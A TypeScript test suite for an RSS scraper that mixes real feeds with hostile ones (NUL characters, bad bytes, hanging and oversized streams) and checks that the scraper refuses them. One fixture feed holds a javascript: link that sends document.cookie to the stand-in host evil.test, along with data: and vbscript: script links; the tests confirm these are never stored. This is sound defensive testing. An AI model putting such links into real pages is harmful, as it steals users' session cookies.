/**
 * The hostile-feed suite: good real feeds (../shared/fixtures/rss) scraped in one run among bad
 * ones — NUL characters in items, 10,000 items, invalid UTF-8 bytes, script links, a document that
 * is not XML, a feed that hangs, an oversized one, and a source whose error cannot even be written.
 * Every good feed must be stored whole; each bad one must end with a precise last_error, or, where
 * only some items are bad, with its good items stored and the bad ones counted.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { eq, sql } from 'drizzle-orm'
import { parseConfig } from '../../src/config'
import { articles, rssSources } from '../../src/db/schema'
import { scrapeFeeds, type ScrapeOptions, type SourceResult } from '../../src/pipeline/ingest/rss/scrape'
import { freshDatabase, testDriver, type TestDatabase } from '../support/database'
import { replayServer, type ReplayServer } from '../support/replay-server'
import { haveSharedFixtures, noteMissingFixtures, sharedFixtureBytes } from '../support/shared-fixtures'

noteMissingFixtures('hostile feeds')

const allowPrivate = parseConfig({ SCRAPE_ALLOW_PRIVATE: 'on' })
// Generous: on PGlite the database works on this thread, and a busy thread delays every fetch's answer.
const options: ScrapeOptions = { fetch: { timeoutMs: 20_000, maxBytes: 2_000_000, maxRedirects: 3 } }
const encode = (s: string) => new TextEncoder().encode(s)
const concat = (...parts: Uint8Array[]): Uint8Array<ArrayBuffer> => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0))
  parts.reduce((at, p) => (out.set(p, at), at + p.length), 0)
  return out
}

/** Real feeds, and how many articles each holds (rss-scrape.test.ts counts them the same way). */
const GOOD = {
  ajph: ['feedjira/AtyponRSSFeed_AJPH.xml', 20],
  science: ['rss-parser/rss-1.rss', 69],
  guardian: ['rss-parser/guardian.rss', 55],
  koi8r: ['miniflux/encoding_koi8r.xml', 2],
  biorxiv: ['miniflux/biorxiv_subject_collection_bioengineering.rdf.xml', 1],
  saxerror: ['node-feedparser/saxerror.xml', 3],
} as const

/** The RSS 2.0 sample feed with NUL characters in its items: raw, as a reference, in a guid. */
function nulFeed(): Uint8Array<ArrayBuffer> {
  const text = new TextDecoder().decode(sharedFixtureBytes('rss/node-feedparser/rss2sample.xml'))
  return encode(
    text
      .replace('<title>Star City</title>', '<title>Star\u0000 City</title>')
      .replace(
        '<guid>http://liftoff.msfc.nasa.gov/2003/06/03.html#item573</guid>',
        '<guid>http://liftoff.msfc.nasa.gov/2003/06/03.html#item573\u0000</guid>',
      )
      .replace('design new engines', 'design&#0; new engines\u0000'),
  )
}

/** heise's Atom feed (UTF-8, German) with bytes that are not UTF-8 in two of its titles. */
function badBytesFeed(): Uint8Array<ArrayBuffer> {
  const bytes = sharedFixtureBytes('rss/rss-parser/heise.atom')
  const text = new TextDecoder().decode(bytes)
  const [first, second] = ['Scrum Day 2016', 'Developer Snapshots'].map(
    (title) => encode(text.slice(0, text.indexOf(title) + title.length)).length,
  )
  return concat(
    bytes.subarray(0, first),
    new Uint8Array([0xff]),
    bytes.subarray(first, second),
    new Uint8Array([0xe9, 0x80]),
    bytes.subarray(second),
  )
}

const tenThousand = () =>
  `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Firehose</title>${Array.from(
    { length: 10_000 },
    (_, i) => `<item><title>Finding ${i}</title><link>https://firehose.test/${i}</link><guid>fh-${i}</guid></item>`,
  ).join('')}</channel></rss>`

const scriptLinks = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:prism="http://prismstandard.org/namespaces/basic/2.0/"><channel><title>Trap</title>
  <item><title>A real article</title><link>https://trap.test/1</link><guid>trap-1</guid></item>
  <item><title>Steals cookies</title><link>javascript:fetch('//evil.test/?c='+document.cookie)</link><guid>trap-2</guid></item>
  <item><title>Hides a page</title><link> data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==</link><prism:doi>10.1111/trap.3</prism:doi></item>
  <item><title>Old browsers</title><link>vbscript:msgbox("x")</link></item>
  <item><title>Relative</title><link>/articles/5</link></item>
  <item><title>Another real one</title><link>https://trap.test/6?a=1&amp;b=2</link></item>
</channel></rss>`

let server: ReplayServer
beforeAll(() => {
  server = replayServer((_, url) => {
    const path = url.pathname
    if (path.startsWith('/good/'))
      return new Response(sharedFixtureBytes(`rss/${GOOD[path.slice(6) as keyof typeof GOOD][0]}`))
    switch (path) {
      case '/nul':
        return new Response(nulFeed(), { headers: { 'content-type': 'application/rss+xml; charset=utf-8' } })
      case '/ten-thousand':
        return new Response(tenThousand(), { headers: { 'content-type': 'application/rss+xml' } })
      case '/bad-bytes':
        return new Response(badBytesFeed(), { headers: { 'content-type': 'application/atom+xml; charset=UTF-8' } })
      case '/script-links':
        return new Response(scriptLinks, { headers: { 'content-type': 'application/rss+xml' } })
      case '/not-xml':
        return new Response(new Uint8Array([0x1f, 0x8b, 0x08, 0x00, 0xde, 0xad, 0xbe, 0xef, 0x00, 0x00, 0xff]), {
          headers: { 'content-type': 'application/rss+xml' },
        })
      case '/hanging': {
        // the first bytes, then one space a second, never the end: only a limit on the whole exchange stops it
        let started = false
        return new Response(
          new ReadableStream({
            pull: async (c) => {
              if (started) await Bun.sleep(1000)
              c.enqueue(encode(started ? ' ' : '<?xml version="1.0"?><rss version="2.0"><channel>'))
              started = true
            },
          }),
        )
      }
      case '/oversized': {
        const chunk = encode(`<item><title>${'padding '.repeat(120)}</title></item>`)
        let sent = 0
        return new Response(
          new ReadableStream({
            pull: (c) => {
              if (sent++ < 3000) c.enqueue(chunk)
              else c.close()
            },
          }),
        )
      }
      case '/missing':
        return new Response('gone', { status: 404 })
      default:
        return new Response('?', { status: 500 })
    }
  })
})
afterAll(async () => {
  await server.stop()
})

const BAD = {
  nul: '/nul',
  firehose: '/ten-thousand',
  badbytes: '/bad-bytes',
  scripts: '/script-links',
  notxml: '/not-xml',
  hanging: '/hanging',
  oversized: '/oversized',
}

describe.if(haveSharedFixtures)(`one scrape run over good and hostile feeds on ${testDriver}`, () => {
  let database: TestDatabase
  const results = new Map<string, SourceResult>()
  let run: Awaited<ReturnType<typeof scrapeFeeds>>
  const stored = async (name: string) =>
    database.db
      .select({ guid: articles.guid, link: articles.link, title: articles.title, summary: articles.summary })
      .from(articles)
      .innerJoin(rssSources, eq(rssSources.id, articles.sourceId))
      .where(eq(rssSources.name, name))
      .orderBy(articles.id)
  const lastError = async (name: string) =>
    (await database.db.select({ e: rssSources.lastError }).from(rssSources).where(eq(rssSources.name, name)))[0].e

  beforeAll(async () => {
    database = await freshDatabase()
    // Bad sources first, so a run that stopped at one of them would never reach the good feeds.
    const sources = [...Object.entries(BAD), ...Object.keys(GOOD).map((name) => [name, `/good/${name}`])]
    await database.db.insert(rssSources).values(sources.map(([name, path]) => ({ name, url: server.url + path })))
    run = await scrapeFeeds(database, allowPrivate, { ...options, onSource: (r) => results.set(r.name, r) })
  })
  afterAll(async () => {
    await database.close()
  })

  test('every good feed is stored whole', async () => {
    for (const [name, [, count]] of Object.entries(GOOD)) {
      expect({ name, stored: (await stored(name)).length, error: await lastError(name) }).toEqual({
        name,
        stored: count,
        error: null,
      })
    }
  })

  test('each bad feed that could not be read has a precise last_error, and its failure counted', async () => {
    expect({
      notxml: await lastError('notxml'),
      hanging: await lastError('hanging'),
      oversized: await lastError('oversized'),
    }).toEqual({
      notxml: 'not a readable RSS or Atom feed: Non-whitespace before first tag.',
      hanging: 'no complete answer within 20000 ms',
      oversized: 'feed is larger than 2000000 bytes',
    })
    expect(run).toMatchObject({ sources: 13, failed: 3 })
  })

  test('NUL characters are dropped from the items that held them, and every item is stored', async () => {
    // The sample's second item has neither title nor link: skipped, as it always was.
    expect(results.get('nul')).toMatchObject({ items: 4, added: 3, skipped: 1, error: null })
    const rows = await stored('nul')
    expect(rows.map((r) => r.title)).toEqual(['Star City', 'The Engine That Does More', "Astronauts' Dirty Laundry"])
    expect(rows[0].guid).toBe('http://liftoff.msfc.nasa.gov/2003/06/03.html#item573')
    expect(rows[1].summary).toStartWith('Before man travels to Mars, NASA hopes to design new engines that')
    expect(await lastError('nul')).toBeNull()
  })

  test('all 10,000 items of one feed are stored', async () => {
    expect(results.get('firehose')).toMatchObject({ items: 10_000, added: 10_000, error: null })
    expect((await stored('firehose')).length).toBe(10_000)
  })

  test('a UTF-8 feed with a few bad bytes keeps its text; only the bad bytes are replaced', async () => {
    const titles = (await stored('badbytes')).map((r) => r.title)
    expect(titles.length).toBe(15)
    expect(titles).toContain('Scrum Day 2016\ufffd: Bewerbungen für Vorträge und Workshops')
    expect(titles).toContain('Developer Snapshots\ufffd: Programmierer-News in ein, zwei Sätzen') // E9 80 is one cut-off sequence
    expect(titles).toContain('Änderungen bei der Authentifizierung in Microsofts v2.0 App Model')
  })

  test('script, data and relative links are never stored; their items are kept when a guid or DOI names them, and counted', async () => {
    expect(results.get('scripts')).toMatchObject({ items: 6, added: 4, skipped: 2, linksRefused: 4, error: null })
    const rows = await database.rows<{ title: string; link: string | null }>(sql`
      select a.title, a.link from articles a join rss_sources s on s.id = a.source_id where s.name = 'scripts' order by a.id`)
    expect(rows).toEqual([
      { title: 'A real article', link: 'https://trap.test/1' },
      { title: 'Steals cookies', link: null },
      { title: 'Hides a page', link: null },
      { title: 'Another real one', link: 'https://trap.test/6?a=1&b=2' },
    ])
    const [unsafe] = await database.rows<{ n: number }>(
      sql`select count(*)::int as n from articles where link !~ '^https?://'`,
    )
    expect(unsafe.n).toBe(0)
  })

  test('a second run adds nothing: the cleaned items are recognised', async () => {
    await database.db.update(rssSources).set({ enabled: false }).where(eq(rssSources.name, 'hanging')) // once is enough
    const again = await scrapeFeeds(database, allowPrivate, options)
    expect(again).toMatchObject({ sources: 12, added: 0, failed: 2 })
  })
})

describe(`a source whose failure cannot be recorded on ${testDriver}`, () => {
  test('is reported by the run, and the sources after it are still fetched and stored', async () => {
    const database = await freshDatabase()
    try {
      // The database refuses any error written on this one row, as a broken or full database might.
      await database.rows(sql`create function refuse_cursed() returns trigger language plpgsql as $$
        begin if new.name = 'cursed' and new.last_error is not null then raise exception 'disk full'; end if; return new; end $$`)
      await database.rows(
        sql`create trigger refuse_cursed before update on rss_sources for each row execute function refuse_cursed()`,
      )
      await database.db.insert(rssSources).values([
        { name: 'cursed', url: `${server.url}/missing` },
        { name: 'after', url: `${server.url}/script-links` },
      ])
      const results: SourceResult[] = []
      const counts = await scrapeFeeds(database, allowPrivate, {
        ...options,
        concurrency: 1,
        onSource: (r) => results.push(r),
      })
      expect(counts).toMatchObject({ sources: 2, failed: 1, added: 4 })
      expect(results.map((r) => [r.name, r.error])).toEqual([
        ['cursed', 'HTTP 404 (and recording it failed: the database refused the write: disk full)'],
        ['after', null],
      ])
    } finally {
      await database.close()
    }
  })
})
